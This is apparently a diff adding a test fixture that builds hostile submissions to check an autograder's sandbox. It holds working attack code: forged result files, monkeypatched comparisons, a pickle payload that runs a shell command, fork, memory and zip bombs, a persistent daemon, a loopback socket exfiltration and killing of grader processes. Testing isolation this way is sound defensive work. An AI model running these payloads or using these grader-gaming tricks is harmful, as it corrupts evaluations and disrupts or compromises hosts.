@@ -1,0 +1,330 @@
+"""Hostile submissions: one per known attack on an autograder.
+
+Each hostile submission is the *partial* submission (the solution's student modules, except
+``optim.py``, which is the released stub: every update rule raises NotImplementedError) with
+an attack added to ``optim.py``: module-level code (it runs when the worker imports optim)
+and/or replacements of the update rules. The honest score of every one of them is the
+partial submission's score: all points but the optim cases'. An attack that worked would
+show as a different score (several attacks switch on a correct ``sgd_momentum`` when they
+succeed, so success is visible as points), a crash of the grader, a missing result, or (for
+the daemon) a process left running.
+
+Placeholders (``string.Template``): ``$REFERENCE`` (the absolute path of a reference file),
+``$RESULTS`` (the results directory), ``$PORT`` (a TCP port on the host's loopback where the
+test listens), ``$MARKER`` (a unique string the daemon carries in its command line).
+"""
+
+import shutil
+import string
+from pathlib import Path
+
+# A correct sgd_momentum that only works once an attack succeeded (SUCCESS = True).
+_SWITCH = '''
+
+SUCCESS = False
+
+
+def sgd_momentum(w, dw, config=None):
+    if not SUCCESS:
+        raise NotImplementedError("sgd_momentum: the attack did not work")
+    config = _start(w, dw, config, {"learning_rate": 1e-2, "momentum": 0.9})
+    v = config["momentum"] * _state(config, "velocity", w) - config["learning_rate"] * dw
+    config["velocity"] = v
+    return (w + v).astype(w.dtype, copy=False), config
+'''
+
+ATTACKS = {
+    "write_results_json": ("writes a perfect results.json wherever it can", r'''
+import json, os
+_fake = {"score": 1000.0, "tests": [{"name": "pwned", "score": 1000.0, "max_score": 1.0, "status": "passed"}]}
+for _d in ["$RESULTS", "$RESULTS/hostile_write_results_json", "/autograder/results", os.getcwd(),
+           os.path.dirname(os.getcwd()), "/io", "/io/out"]:
+    for _name in ("results.json", "grades.csv", "report.json"):
+        try:
+            os.makedirs(_d, exist_ok=True)
+            with open(os.path.join(_d, _name), "w") as _f:
+                json.dump(_fake, _f)
+        except OSError:
+            pass
+'''),
+    "exit_early_sys": ("calls sys.exit(0) when imported", r'''
+import sys
+sys.exit(0)
+'''),
+    "exit_early_os": ("calls os._exit(0) in the middle of a case", r'''
+
+def nesterov(w, dw, config=None):
+    import os
+    os._exit(0)
+'''),
+    "monkeypatch": ("monkeypatches numpy and builtins to make every comparison pass", _SWITCH + r'''
+import builtins, numpy as np
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
+np.array_equal = lambda *a, **k: True
+np.abs = lambda x, *a, **k: np.zeros(np.shape(x))
+np.max = lambda *a, **k: 0.0
+np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
+builtins.abs = lambda x: 0
+builtins.max = lambda *a, **k: 0
+builtins.float = lambda *a: 0.0
+
+
+def adam(w, dw, config=None):
+    return w, config
+'''),
+    "lying_objects": ("returns objects whose comparisons and conversions lie", r'''
+import numpy as np
+
+
+class Liar(np.ndarray):
+    def __eq__(self, other):
+        return True
+    def __ne__(self, other):
+        return False
+    def __lt__(self, other):
+        return True
+    def __le__(self, other):
+        return True
+    def __abs__(self):
+        return np.zeros(self.shape).view(Liar)
+    def __sub__(self, other):
+        return np.zeros(self.shape).view(Liar)
+    def __float__(self):
+        return 0.0
+
+
+class Opaque:
+    shape = (4, 5)
+    dtype = np.dtype("float64")
+    def __eq__(self, other):
+        return True
+    def __array__(self, *a, **k):
+        return np.zeros(self.shape)
+
+
+def sgd_momentum(w, dw, config=None):
+    return np.zeros_like(w).view(Liar), config
+
+
+def nesterov(w, dw, config=None):
+    return Opaque(), config
+
+
+def adagrad(w, dw, config=None):
+    return [Opaque()], config
+
+
+def rmsprop(w, dw, config=None):
+    return np.array([object()] * w.size).reshape(w.shape), config
+'''),
+    "read_reference": ("opens the reference values by their absolute path", _SWITCH + r'''
+import os
+for _p in ("$REFERENCE", os.path.join(os.path.dirname("$REFERENCE"), ".."), "/autograder/source/reference"):
+    try:
+        with open(_p, "rb") as _f:
+            _f.read(16)
+        SUCCESS = True
+    except OSError:
+        pass
+    try:
+        os.listdir(_p)
+        SUCCESS = True
+    except OSError:
+        pass
+'''),
+    "socket": ("opens a socket to a server on the host's loopback", _SWITCH + r'''
+import socket
+try:
+    _s = socket.create_connection(("127.0.0.1", $PORT), timeout=2)
+    _s.sendall(b"exfiltrated")
+    _s.close()
+    SUCCESS = True
+except OSError:
+    pass
+'''),
+    "fork_bomb": ("forks without end in an update rule", r'''
+
+def adam(w, dw, config=None):
+    import os
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+'''),
+    "memory_bomb": ("allocates memory until it runs out", r'''
+
+def adam(w, dw, config=None):
+    blocks = []
+    for _ in range(64):  # at most 4 GiB even where no limit held
+        blocks.append(bytearray(64 << 20))
+    return w, config
+
+
+def rmsprop(w, dw, config=None):
+    import numpy as np
+    return np.ones((1 << 40,)), config
+'''),
+    "infinite_loop": ("loops forever in an update rule", r'''
+
+def nesterov(w, dw, config=None):
+    while True:
+        pass
+'''),
+    "output_flood": ("prints 100 MB", r'''
+import sys, os
+_chunk = "x" * (1 << 20)
+for _ in range(50):
+    sys.stdout.write(_chunk)
+    sys.stderr.write(_chunk)
+sys.stdout.flush()
+'''),
+    "nan_inf": ("returns NaN and inf", r'''
+import numpy as np
+
+
+def sgd_momentum(w, dw, config=None):
+    return w * np.nan, config
+
+
+def nesterov(w, dw, config=None):
+    return w + np.inf, config
+
+
+def adam(w, dw, config=None):
+    out = w.copy()
+    out.flat[0] = -np.inf
+    return out, config
+'''),
+    "pickled_outputs": ("replaces outputs.npz with a pickled object array and exits", r'''
+import os, sys, pickle
+import numpy as np
+
+
+class Boom:
+    def __reduce__(self):
+        return (os.system, ("echo pwned > /tmp/pwned-by-pickle",))
+
+
+def _out_dir():
+    argv = sys.argv
+    return argv[argv.index("--out") + 1] if "--out" in argv else os.getcwd()
+
+
+def sgd_momentum(w, dw, config=None):
+    arr = np.empty(1, dtype=object)
+    arr[0] = Boom()
+    names = {f"c{i:03d}.w_steps": arr for i in range(20)}
+    names.update({f"c{i:03d}.state_velocity": arr for i in range(20)})
+    names["__done__"] = np.array(1)
+    with open(os.path.join(_out_dir(), "outputs.npz"), "wb") as f:
+        np.savez(f, **names)
+    os._exit(0)
+'''),
+    "zip_bomb": ("replaces outputs.npz with a zip bomb whose headers lie, and exits", r'''
+import os, sys, struct, zlib, zipfile, io
+
+
+def _out_dir():
+    argv = sys.argv
+    return argv[argv.index("--out") + 1] if "--out" in argv else os.getcwd()
+
+
+def _bomb(path, names, gigabytes=1):
+    # A stored-size-lying deflate member of `gigabytes` GiB of zeros per name.
+    with open(path, "wb") as f:
+        central = b""
+        for name in names:
+            comp = zlib.compressobj(9, zlib.DEFLATED, -15)
+            zero = bytes(1 << 24)
+            data = b"".join(comp.compress(zero) for _ in range(64 * gigabytes)) + comp.flush()
+            crc = 0
+            header_offset = f.tell()
+            fname = name.encode()
+            # local header: declares an uncompressed size of 128 bytes
+            f.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), 128, len(fname), 0))
+            f.write(fname)
+            f.write(data)
+            central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), 128,
+                                   len(fname), 0, 0, 0, 0, 0, header_offset) + fname
+        start = f.tell()
+        f.write(central)
+        f.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central), start, 0))
+
+
+def adagrad(w, dw, config=None):
+    _bomb(os.path.join(_out_dir(), "outputs.npz"), [f"c{i:03d}.w_steps.npy" for i in range(10)] + ["__done__.npy"])
+    os._exit(0)
+
+
+def adam(w, dw, config=None):
+    # A zip that declares a million members.
+    path = os.path.join(_out_dir(), "outputs.npz")
+    with open(path, "wb") as f:
+        f.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65000, 65000, 0, 0, 0))
+    os._exit(0)
+'''),
+    "daemon": ("leaves a daemon running after the worker exits", r'''
+import os, sys, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        try:
+            os.execv(sys.executable, [sys.executable, "-c", "import time\nwhile True: time.sleep(1)", "$MARKER"])
+        finally:
+            os._exit(0)
+    os._exit(0)
+time.sleep(0.2)
+'''),
+    "kill_parent": ("signals its parent and every process it can see", _SWITCH + r'''
+import os, signal
+for _target in (os.getppid(), 1):
+    try:
+        os.kill(_target, signal.SIGKILL)
+    except OSError:
+        pass
+for _pid in os.listdir("/proc"):
+    if _pid.isdigit() and int(_pid) != os.getpid():
+        try:
+            with open(f"/proc/{_pid}/cmdline", "rb") as _f:
+                if b"grader" in _f.read():
+                    os.kill(int(_pid), signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError:
+    pass
+'''),
+}
+
+# Attacks that only namespaces or a dropped uid stop; the tests skip them (saying why) under
+# an isolation that lacks what they need.
+NEEDS = {
+    "socket": "network",
+    "read_reference": "separation",
+    "kill_parent": "separation",
+    "daemon": "separation",
+    "fork_bomb": "nproc",
+}
+
+
+def make_partial(solution_package, student_modules, stub_optim, dest):
+    """The honest baseline: the solution's modules with the released (stub) optim.py."""
+    dest = Path(dest)
+    for rel in student_modules:
+        target = dest / "assignment" / rel
+        target.parent.mkdir(parents=True, exist_ok=True)
+        shutil.copyfile(Path(solution_package) / rel, target)
+    shutil.copyfile(stub_optim, dest / "assignment" / "optim.py")
+    return dest
+
+
+def make_hostile(solution_package, student_modules, stub_optim, dest, name, **values):
+    dest = make_partial(solution_package, student_modules, stub_optim, dest)
+    _, code = ATTACKS[name]
+    code = string.Template(code).safe_substitute(**{k: str(v) for k, v in values.items()})
+    path = dest / "assignment" / "optim.py"
+    path.write_text(path.read_text() + "\n\n# ---- attack: " + name + " ----\n" + code)
+    return dest
